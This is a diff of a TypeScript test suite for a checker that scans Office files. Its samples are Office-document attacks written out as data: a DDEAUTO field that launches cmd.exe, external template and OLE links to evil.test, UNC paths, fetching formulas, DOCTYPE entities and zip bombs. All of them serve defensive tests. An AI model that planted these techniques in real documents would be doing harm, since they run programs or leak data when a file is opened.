@@ -1,32 +1,32 @@
-import { crc32, deflateRawSync } from 'node:zlib'
+import { unzipSync } from 'fflate'
 import { office } from '../../../../tests/harness/documents'
-import { storeZip } from '../../../../tests/harness/zip-file'
+import { deflatedZip, storeZip } from '../../../../tests/harness/zip-file'
 import { readOffice } from './check-office'
 
-const flaw = (bytes: Buffer): string => {
-  const found = readOffice(bytes)?.flaw
+const flaw = async (bytes: Buffer): Promise<string> => {
+  const found = (await readOffice(bytes))?.flaw
   return typeof found === 'object' ? found.active : (found ?? 'ok')
 }
-const parts = (given: Record<string, string>): string => flaw(office(given))
-const relations = (attributes: string): string =>
+const parts = (given: Record<string, string>): Promise<string> => flaw(office(given))
+const relations = (attributes: string): Promise<string> =>
   parts({
     'word/_rels/document.xml.rels': `<?xml version="1.0"?><Relationships><Relationship Id="r1" ${attributes}/></Relationships>`,
   })
-const relation = (type: string, target: string, mode = ''): string =>
+const relation = (type: string, target: string, mode = ''): Promise<string> =>
   relations(
     `Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/${type}" Target="${target}" ${mode}`,
   )
-const word = (body: string): string =>
+const word = (body: string): Promise<string> =>
   parts({ 'word/document.xml': `<w:document xmlns:w="w"><w:body>${body}</w:body></w:document>` })
 const code = (text: string): string => `<w:r><w:instrText xml:space="preserve">${text}</w:instrText></w:r>`
 const mark = (type: string): string => `<w:r><w:fldChar w:fldCharType="${type}"/></w:r>`
-const field = (...codes: string[]): string =>
+const field = (...codes: string[]): Promise<string> =>
   word(mark('begin') + codes.map(code).join('') + mark('separate') + mark('end'))
 const EXTERNAL = 'TargetMode="External"'
 
-test('parts that say or show something are taken', () => {
+test('parts that say or show something are taken', async () => {
   expect(
-    parts({
+    await parts({
       'word/media/image1.png': 'x',
       'xl/printerSettings/printerSettings1.bin': 'x',
       'docProps/thumbnail.jpeg': 'x',
@@ -37,9 +37,9 @@ test('parts that say or show something are taken', () => {
     }),
   ).toBe('ok')
   for (const type of ['styles', 'image', 'theme', 'ctrlProp', 'printerSettings', 'hyperlink'])
-    expect([type, relation(type, 'x.xml')]).toEqual([type, 'ok'])
+    expect([type, await relation(type, 'x.xml')]).toEqual([type, 'ok'])
   for (const target of ['https://www.gov.cn/?a=1&amp;b=2', 'mailto:a@b.cn', 'www.gov.cn', '附件1.docx', '#表1'])
-    expect([target, relation('hyperlink', target, EXTERNAL)]).toEqual([target, 'ok'])
+    expect([target, await relation('hyperlink', target, EXTERNAL)]).toEqual([target, 'ok'])
   for (const text of [
     ' PAGE ',
     'TOC \\o "1-3" \\h',
@@ -49,23 +49,23 @@ test('parts that say or show something are taken', () => {
     'INCLUDEPICTURE \\d "file:///C:/Temp/a.jpg"',
     'MACROBUTTON NoMacro [点击输入]',
   ])
-    expect([text, field(text.replace(/"/g, '&quot;'))]).toEqual([text, 'ok'])
+    expect([text, await field(text.replace(/"/g, '&quot;'))]).toEqual([text, 'ok'])
   expect(
-    word(
+    await word(
       `${mark('begin')}${code('IF ')}${mark('begin')}${code('PAGE')}${mark('end')}${code(' = 1 "a"')}${mark('end')}`,
     ),
   ).toBe('ok')
 })
 
-test('what is fetched or run on opening is refused, however it is written', () => {
+test('what is fetched or run on opening is refused, however it is written', async () => {
   for (const type of ['attachedTemplate', 'image', 'oleObject', 'frame', 'aFChunk', 'externalLinkPath'])
-    expect([type, relation(type, 'http://evil.test/x', EXTERNAL)]).toEqual([type, 'external'])
-  expect(relations(`Type='x/image' Target='http://evil.test/x' TargetMode = 'External'`)).toBe('external')
-  expect(relations('Type="x/image" Target="http://evil.test/x" TargetMode="&#69;xternal"')).toBe('external')
-  expect(relations('Type="x/image" Target="\\\\evil.test\\x"')).toBe('external')
-  expect(relation('image', 'file:///c:/x')).toBe('external')
-  expect(relation('hyperlink', '\\\\evil.test\\share', EXTERNAL)).toBe('\\\\evil.test\\share')
-  expect(relation('hyperlink', 'file://evil.test/x', EXTERNAL)).toBe('file://evil.test/x')
+    expect([type, await relation(type, 'http://evil.test/x', EXTERNAL)]).toEqual([type, 'external'])
+  expect(await relations(`Type='x/image' Target='http://evil.test/x' TargetMode = 'External'`)).toBe('external')
+  expect(await relations('Type="x/image" Target="http://evil.test/x" TargetMode="&#69;xternal"')).toBe('external')
+  expect(await relations('Type="x/image" Target="\\\\evil.test\\x"')).toBe('external')
+  expect(await relation('image', 'file:///c:/x')).toBe('external')
+  expect(await relation('hyperlink', '\\\\evil.test\\share', EXTERNAL)).toBe('\\\\evil.test\\share')
+  expect(await relation('hyperlink', 'file://evil.test/x', EXTERNAL)).toBe('file://evil.test/x')
   for (const type of [
     'oleObject',
     'control',
@@ -76,13 +76,15 @@ test('what is fetched or run on opening is refused, however it is written', () =
     'customUI',
     'video',
   ])
-    expect([type, relation(type, 'x.xml')]).toEqual([type, type])
+    expect([type, await relation(type, 'x.xml')]).toEqual([type, type])
   expect(
-    parts({ 'x/_rels/y.xml.RELS': '<Relationship Type="x/image" Target="http://evil.test" TargetMode="External"/>' }),
+    await parts({
+      'x/_rels/y.xml.RELS': '<Relationship Type="x/image" Target="http://evil.test" TargetMode="External"/>',
+    }),
   ).toBe('external')
 })
 
-test('fields that run a program or fetch a file are refused, cut into runs or written by another field', () => {
+test('fields that run a program or fetch a file are refused, cut into runs or written by another field', async () => {
   for (const text of [
     'DDEAUTO c:\\\\windows\\\\system32\\\\cmd.exe "/k calc"',
     'dde x',
@@ -92,36 +94,36 @@ test('fields that run a program or fetch a file are refused, cut into runs or wr
     'IMPORT x',
     'DATABASE x',
   ])
-    expect([text, field(text.replace(/"/g, '&quot;'))]).toEqual([text, text.split(' ')[0]?.toUpperCase()])
-  expect(field(' D', 'DE', 'AUTO cmd')).toBe('DDEAUTO')
-  expect(field('&#68;DE x')).toBe('DDE')
-  expect(field('<![CDATA[DDE x]]>')).toBe('DDE')
-  expect(field('INCLUDEPICTURE &quot;http://evil.test/a.png&quot;')).toBe('INCLUDEPICTURE')
-  expect(field('INCLUDEPICTURE \\d &quot;\\\\\\\\evil\\\\a.png&quot;')).toBe('INCLUDEPICTURE')
-  expect(word('<w:fldSimple w:instr="DDEAUTO cmd"/>')).toBe('DDEAUTO')
-  expect(word('<w:fldSimple w:id="1" x:id="2" w:instr=\'DDE cmd\'/>')).toBe('DDE')
-  expect(word(mark('begin') + code('DDE x'))).toBe('DDE')
+    expect([text, await field(text.replace(/"/g, '&quot;'))]).toEqual([text, text.split(' ')[0]?.toUpperCase()])
+  expect(await field(' D', 'DE', 'AUTO cmd')).toBe('DDEAUTO')
+  expect(await field('&#68;DE x')).toBe('DDE')
+  expect(await field('<![CDATA[DDE x]]>')).toBe('DDE')
+  expect(await field('INCLUDEPICTURE &quot;http://evil.test/a.png&quot;')).toBe('INCLUDEPICTURE')
+  expect(await field('INCLUDEPICTURE \\d &quot;\\\\\\\\evil\\\\a.png&quot;')).toBe('INCLUDEPICTURE')
+  expect(await word('<w:fldSimple w:instr="DDEAUTO cmd"/>')).toBe('DDEAUTO')
+  expect(await word('<w:fldSimple w:id="1" x:id="2" w:instr=\'DDE cmd\'/>')).toBe('DDE')
+  expect(await word(mark('begin') + code('DDE x'))).toBe('DDE')
   expect(
-    word(`${mark('begin')}${mark('begin')}${code('QUOTE 68 68 69')}${mark('end')}${code(' cmd')}${mark('end')}`),
+    await word(`${mark('begin')}${mark('begin')}${code('QUOTE 68 68 69')}${mark('end')}${code(' cmd')}${mark('end')}`),
   ).toBe('field')
   // The part may lie anywhere.
-  expect(parts({ 'odd/place.xml': `<x>${mark('begin')}${code('DDE x')}${mark('end')}</x>` })).toBe('DDE')
-  expect(word(mark('begin').repeat(60) + code('PAGE'))).toBe('too-complex')
+  expect(await parts({ 'odd/place.xml': `<x>${mark('begin')}${code('DDE x')}${mark('end')}</x>` })).toBe('DDE')
+  expect(await word(mark('begin').repeat(60) + code('PAGE'))).toBe('too-complex')
 })
 
-test('formulas that fetch, document types and other encodings are refused', () => {
+test('formulas that fetch, document types and other encodings are refused', async () => {
   for (const formula of [
     '_xlfn.WEBSERVICE("http://evil")',
     '_xlfn.IMAGE("http://evil")',
     'RTD("x")',
     'web&#115;ervice(1)',
   ])
-    expect(parts({ 'xl/worksheets/sheet1.xml': `<worksheet><c><f>${formula}</f></c></worksheet>` })).toMatch(
+    expect(await parts({ 'xl/worksheets/sheet1.xml': `<worksheet><c><f>${formula}</f></c></worksheet>` })).toMatch(
       /WEBSERVICE|IMAGE|RTD/i,
     )
-  expect(parts({ 'xl/workbook.xml': '<workbook><definedName>RTD("x")</definedName></workbook>' })).toBe('RTD')
-  expect(parts({ 'word/x.xml': '<!DOCTYPE a SYSTEM "http://evil.test"><a/>' })).toBe('DOCTYPE')
-  expect(parts({ 'docProps/core.xml': '<?xml version="1.0"?><!DOCTYPE a [<!ENTITY b "c">]><a>&b;</a>' })).toBe(
+  expect(await parts({ 'xl/workbook.xml': '<workbook><definedName>RTD("x")</definedName></workbook>' })).toBe('RTD')
+  expect(await parts({ 'word/x.xml': '<!DOCTYPE a SYSTEM "http://evil.test"><a/>' })).toBe('DOCTYPE')
+  expect(await parts({ 'docProps/core.xml': '<?xml version="1.0"?><!DOCTYPE a [<!ENTITY b "c">]><a>&b;</a>' })).toBe(
     'DOCTYPE',
   )
   const wide = Buffer.from('\ufeff<!DOCTYPE a><a/>', 'utf16le').toString('latin1')
@@ -134,11 +136,11 @@ test('formulas that fetch, document types and other encodings are refused', () =
     ].map(([name, text]) => ({ name: name as string, data: Buffer.from(text as string) })),
     { name: 'word/x.xml', data: Buffer.from(wide, 'latin1') },
   ])
-  expect(flaw(utf16)).toBe('DOCTYPE')
-  expect(parts({ 'word/x.xml': '<?xml version="1.0" encoding="UTF-7"?>+ADwAIQ-' })).toBe('broken')
+  expect(await flaw(utf16)).toBe('DOCTYPE')
+  expect(await parts({ 'word/x.xml': '<?xml version="1.0" encoding="UTF-7"?>+ADwAIQ-' })).toBe('broken')
 })
 
-test('other parts have no business in an office file', () => {
+test('other parts have no business in an office file', async () => {
   for (const name of [
     'word/a.exe',
     'word/a.html',
@@ -149,7 +151,7 @@ test('other parts have no business in an office file', () => {
     'inner.docx',
     'noending',
   ])
-    expect([name, parts({ [name]: 'x' })]).toEqual([name, name])
+    expect([name, await parts({ [name]: 'x' })]).toEqual([name, name])
   for (const [name, active] of [
     ['word/VBAPROJECT.bin', 'macro'],
     ['xl/externalLinks/externalLink1.xml', 'external'],
@@ -157,15 +159,15 @@ test('other parts have no business in an office file', () => {
     ['customUI/customUI.xml', 'external'],
     ['word/embeddings/a.xlsx', 'OLE'],
   ])
-    expect([name, parts({ [name as string]: '<x/>' })]).toEqual([name, active])
-  const typed = (type: string): string =>
+    expect([name, await parts({ [name as string]: '<x/>' })]).toEqual([name, active])
+  const typed = (type: string): Promise<string> =>
     flaw(
       office(
         { 'x.xml': '<x/>' },
         `wordprocessingml.document.main+xml"/><Override PartName="/x.xml" ContentType="${type}`,
       ),
     )
-  expect(typed('application/vnd.openxmlformats-officedocument.theme+xml')).toBe('ok')
+  expect(await typed('application/vnd.openxmlformats-officedocument.theme+xml')).toBe('ok')
   for (const type of [
     'application/vnd.ms-office.activeX+xml',
     'application/x-msdownload',
@@ -173,57 +175,47 @@ test('other parts have no business in an office file', () => {
     'application/vnd.ms-word.attachedToolbars.macroEnabled',
     'application/vnd.openxmlformats-officedocument.oleObject',
   ])
-    expect([type, typed(type)]).not.toEqual([type, 'ok'])
+    expect([type, await typed(type)]).not.toEqual([type, 'ok'])
 })
 
 describe('archives that are not what they say', () => {
   const entry = Buffer.from('PK\x01\x02', 'latin1')
-  const changed = (change: (bytes: Buffer, directory: number[]) => void): string => {
+  const changed = async (change: (bytes: Buffer, directory: number[]) => void): Promise<string> => {
     const bytes = office({ 'word/a.xml': '<a/>', 'word/b.xml': '<b/>' })
     const places: number[] = []
     for (let at = bytes.indexOf(entry); at >= 0; at = bytes.indexOf(entry, at + 1)) places.push(at)
     change(bytes, places)
-    return flaw(bytes)
+    return await flaw(bytes)
   }
 
-  test('entries that overlap, or differ from the directory', () => {
-    expect(changed(() => undefined)).toBe('ok')
+  test('entries that overlap, or differ from the directory', async () => {
+    expect(await changed(() => undefined)).toBe('ok')
     // Two entries of the directory, one of the file.
     expect(
-      changed((bytes, at) => bytes.copy(bytes, (at[3] as number) + 42, (at[2] as number) + 42, (at[2] as number) + 46)),
+      await changed((bytes, at) =>
+        bytes.copy(bytes, (at[3] as number) + 42, (at[2] as number) + 42, (at[2] as number) + 46),
+      ),
     ).toBe('broken')
-    expect(changed((bytes) => bytes.write('c', bytes.indexOf('word/b.xml') + 5))).toBe('broken')
-    expect(changed((bytes, at) => bytes.writeUInt16LE(8, (at[3] as number) + 10))).toBe('broken')
-    expect(changed((bytes, at) => bytes.writeUInt32LE(3, (at[3] as number) + 20))).toBe('broken')
-    expect(changed((bytes, at) => bytes.writeUInt32LE(0xffff, (at[3] as number) + 42))).toBe('broken')
-    expect(flaw(office({ 'word/a.xml': '<a/>', 'WORD/A.XML': '<b/>' }))).toBe('broken')
+    expect(await changed((bytes) => bytes.write('c', bytes.indexOf('word/b.xml') + 5))).toBe('broken')
+    expect(await changed((bytes, at) => bytes.writeUInt16LE(8, (at[3] as number) + 10))).toBe('broken')
+    expect(await changed((bytes, at) => bytes.writeUInt32LE(3, (at[3] as number) + 20))).toBe('broken')
+    expect(await changed((bytes, at) => bytes.writeUInt32LE(0xffff, (at[3] as number) + 42))).toBe('broken')
+    expect(await flaw(office({ 'word/a.xml': '<a/>', 'WORD/A.XML': '<b/>' }))).toBe('broken')
     const bytes = office()
     const ahead = Buffer.concat([bytes.subarray(0, 4), Buffer.alloc(26), bytes])
-    expect(flaw(ahead)).toBe('broken')
+    expect(await flaw(ahead)).toBe('broken')
   })
 
-  test('ten thousand entries, and what unpacks to a thousand times its size', () => {
+  test('ten thousand entries, and what unpacks to a thousand times its size', async () => {
     const many = Object.fromEntries(Array.from({ length: 10_001 }, (_, n) => [`word/${n}.xml`, '<a/>']))
-    expect(parts(many)).toBe('broken')
-    expect(flaw(packed(Buffer.alloc(50 * 1024 * 1024, ' ')))).toBe('too-large')
-    expect(flaw(packed(Buffer.from(`<a>${'x'.repeat(1000)}</a>`)))).toBe('ok')
+    expect(await parts(many)).toBe('broken')
+    const packed = (text: string | Buffer): Buffer => deflatedZip({ ...unzipSync(office()), 'word/a.xml': text })
+    expect(await flaw(packed(Buffer.alloc(50 * 1024 * 1024, ' ')))).toBe('too-large')
+    expect(await flaw(packed(`<a>${'x'.repeat(1000)}</a>`))).toBe('ok')
   })
-
-  function packed(content: Buffer): Buffer {
-    const data = deflateRawSync(content)
-    const whole = office({ 'word/a.xml': 'X'.repeat(data.length) })
-    const local = whole.indexOf('X'.repeat(10))
-    data.copy(whole, local)
-    const central = whole.lastIndexOf(entry)
-    whole.writeUInt16LE(8, central + 10)
-    whole.writeUInt16LE(8, local - 'word/a.xml'.length - 30 + 8)
-    whole.writeUInt32LE(crc32(content), central + 16)
-    whole.writeUInt32LE(content.length, central + 24)
-    return whole
-  }
 })
 
-test('the case of twenty thousand tags without an end, and others like it, are broken and take no time', () => {
+test('the case of twenty thousand tags without an end, and others like it, are broken and take no time', async () => {
   const endless = [
     '<Relationship xxxx'.repeat(200_000),
     `<Relationship ${'x="'.repeat(200_000)}`,
@@ -233,5 +225,5 @@ test('the case of twenty thousand tags without an end, and others like it, are b
     `<Relationship ${' '.repeat(2_000_000)}`,
     '&'.repeat(1_000_000) + '<',
   ]
-  for (const xml of endless) expect(parts({ 'word/_rels/document.xml.rels': xml })).toBe('broken')
+  for (const xml of endless) expect(await parts({ 'word/_rels/document.xml.rels': xml })).toBe('broken')
 })
